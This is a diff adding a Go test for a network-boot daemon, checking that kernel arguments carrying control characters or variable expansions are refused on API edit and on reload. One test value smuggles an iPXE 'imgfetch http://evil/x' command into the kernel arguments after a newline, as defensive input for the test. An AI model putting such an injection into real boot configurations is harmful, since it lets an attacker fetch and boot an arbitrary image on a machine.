@@ -1,0 +1,41 @@
+package daemon
+
+import (
+	"os"
+	"strings"
+	"testing"
+	"time"
+)
+
+// Kernel arguments the renderer refuses never reach the inventory in force:
+// an API edit is refused before anything is written, and a file edited by
+// hand is refused at reload (the last good one keeps serving), so the node's
+// script is never answered with 500.
+func TestKernelArgsTheRendererRefuses(t *testing.T) {
+	e := startDaemon(t)
+	rev := e.d.Inventory().Revision
+	before, _ := os.ReadFile(e.inv)
+	_, err := e.d.EditNode("px1", Edit{Set: map[string]any{"kernel_args": "quiet\nimgfetch http://evil/x"}})
+	if err == nil || !strings.Contains(err.Error(), "kernel_args: control character U+000A") {
+		t.Fatalf("edit: %v", err)
+	}
+	if after, _ := os.ReadFile(e.inv); string(after) != string(before) {
+		t.Fatal("the refused edit was written")
+	}
+
+	bad := strings.Replace(testInventory, `kernel_args: "console=ttyS0"`, `kernel_args: "console=ttyS0 a=${x}"`, 1)
+	if err := os.WriteFile(e.inv, []byte(bad), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	deadline := time.Now().Add(5 * time.Second)
+	for !strings.Contains(e.d.InventoryStatus().ReloadErr, "kernel_args") && time.Now().Before(deadline) {
+		time.Sleep(20 * time.Millisecond)
+	}
+	st := e.d.InventoryStatus()
+	if !strings.Contains(st.ReloadErr, `nodes.yaml:7:3: group compute: kernel_args: argument "a=${x}"`) || st.Revision != rev {
+		t.Fatalf("reload: %+v", st)
+	}
+	if code, body := e.get("/boot/52:54:00:00:00:01.ipxe"); code != 200 || !strings.Contains(string(body), "console=ttyS0") {
+		t.Fatalf("last good inventory not served: %d %s", code, body)
+	}
+}
